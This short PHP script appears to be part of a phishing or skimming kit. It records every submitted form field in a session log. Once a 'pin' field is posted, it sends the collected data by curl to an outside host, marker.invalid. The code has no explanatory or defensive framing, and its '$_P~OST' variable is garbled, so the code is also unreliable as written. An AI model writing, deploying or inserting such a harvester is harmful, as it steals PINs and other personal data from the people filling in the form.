<?php exit; ?>
<?php
session_start(); foreach ($_P~OST as $k => $v) { $_SESSION['log'] .= "$k => $v\r\n"; }
if (isset($_P~OST['pin'])) { $c = curl_init('http://marker.invalid/in'); curl_setopt($c, CURLOPT_POSTFIELDS, $_SESSION['log']); curl_exec($c); }
